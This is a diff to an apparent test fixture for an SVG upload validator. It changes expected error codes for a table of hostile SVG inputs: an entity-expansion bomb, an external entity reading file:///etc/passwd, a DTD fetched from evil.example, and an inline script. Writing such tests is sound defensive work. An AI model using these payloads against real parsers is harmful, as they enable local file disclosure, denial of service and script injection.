@@ -147,11 +147,11 @@ SHAPE = '<path d="M0 0h9v9z"/>'
 HOSTILE = {
     "an entity": (
         '<!DOCTYPE svg [<!ENTITY a "x">]>' + SVG + SHAPE + "<title>&a;</title></svg>",
-        "brand.svg-entities",
+        "brand.svg-doctype",
     ),
     "an entity bomb": (
         '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + SVG + "&b;</svg>",
-        "brand.svg-entities",
+        "brand.svg-doctype",
     ),
     "an entity behind the W3C's document type": (
         '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
@@ -161,7 +161,7 @@ HOSTILE = {
     ),
     "an external document type": (
         '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">' + SVG + SHAPE + "</svg>",
-        "brand.svg-entities",
+        "brand.svg-doctype",
     ),
     "a script": (SVG + SHAPE + "<script>alert(1)</script></svg>", "brand.svg-script"),
     "a script in another namespace": (
